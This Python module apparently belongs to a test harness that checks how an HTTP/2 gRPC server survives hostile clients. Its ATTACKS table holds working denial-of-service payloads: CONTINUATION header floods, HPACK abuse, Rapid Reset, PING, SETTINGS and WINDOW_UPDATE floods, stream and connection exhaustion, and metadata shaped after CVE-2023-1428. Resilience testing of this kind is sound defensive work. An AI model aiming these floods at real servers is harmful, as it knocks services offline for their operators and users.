"""What a client may do to hurt a server, each for some seconds."""

import struct

from http2 import (CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM,
                   HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                   frame, headers, literal)

RESERVE = "/budget.v1.BudgetService/Reserve"
TEN_KB = [("x-%d" % i, "y" * 1000) for i in range(10)]


class Flood:
    """One connection that begins with `first` and repeats `again`."""

    def __init__(self, first, again):
        self.first, self.again = first, again

    def run(self, port, go_on):
        connection = Connection(port)
        connection.send(self.first)
        sent = 0
        while go_on() and connection.send(self.again):
            sent += len(self.again)
        kinds = connection.received(0.3)
        connection.close()
        return sent, "closed" in kinds or sent == 0


class Each:
    """Sends each message on a connection of its own."""

    def __init__(self, *messages):
        self.messages = messages

    def run(self, port, go_on):
        sent, closed = 0, True
        for message in self.messages:
            connection = Connection(port)
            connection.send(message)
            sent += len(message)
            closed = closed and "closed" in connection.received(0.2)
            connection.close()
        return sent, closed


class Crowd:
    """Many connections that say `first`, if anything, and then wait."""

    def __init__(self, count, first=None):
        self.count, self.first = count, first

    def run(self, port, go_on):
        connections = []
        while len(connections) < self.count and go_on():
            connections.append(Connection(port, hello=self.first is None))
            if self.first is not None:
                connections[-1].send(self.first)
        for connection in connections:
            connection.close()
        return len(connections), False


def continuations(first, block):
    """A list of header fields that never ends."""
    return Flood(frame(HEADERS, END_STREAM, 1, headers() + first),
                 frame(CONTINUATION, 0, 1, block) * 20)


def bad_metadata():
    """The shape of CVE-2023-1428: what gRPC refuses, with over 8 KB beside."""
    for te in ("x", "trailers"):
        for scheme in ("x", "http"):
            for more in ([("grpclb_client_stats", "x")], [("lb-token", "x")], []):
                yield frame(HEADERS, END_STREAM | END_HEADERS, 1,
                            headers(te=te, scheme=scheme, more=more + TEN_KB))


ATTACKS = {
    "bad_metadata": Each(*bad_metadata()),
    "endless_small_fields": continuations(b"", literal("a", "b" * 100) * 2),
    "endless_fields": continuations(b"", literal("a", "b" * 4000)),
    "endless_large_fields": continuations(b"", literal("a", "b" * 8000) * 2),
    "endless_references": continuations(literal("a", "b" * 3900, True),
                                        b"\xbe" * 16000),
    "endless_value": continuations(b"\x00\x01a\x7f\xff\xff\xff\x7f",
                                   b"b" * 16000),
    "endless_nothing": continuations(b"", b""),
    "endless_number": continuations(b"\x7f", b"\x80" * 16000),
    "table_sizes": continuations(b"", b"\x20" * 16000),
    "rapid_reset": Flood(b"", b"".join(
        frame(HEADERS, END_HEADERS, stream, headers()) +
        frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 2001, 2))),
    "pings": Flood(b"", frame(PING, 0, 0, b"x" * 8) * 500),
    "settings": Flood(b"", frame(SETTINGS, 0, 0,
                                 struct.pack(">HI", 3, 100)) * 500),
    "windows": Flood(b"", frame(WINDOW_UPDATE, 0, 0,
                                struct.pack(">I", 1)) * 500),
    "data_without_a_call": Flood(b"", frame(DATA, 0, 1, b"x" * 16000)),
    "data_past_the_window": Flood(
        frame(HEADERS, END_HEADERS, 1, headers(RESERVE)),
        frame(DATA, 0, 1, b"\x00\x7f\xff\xff\xff" + b"x" * 15000)),
    "open_streams": Each(b"".join(
        frame(HEADERS, END_HEADERS, stream, headers(RESERVE))
        for stream in range(1, 40001, 2))),
    "idle_connections": Crowd(3000),
    "slow_hello": Crowd(1000, PREFACE[:10]),
}
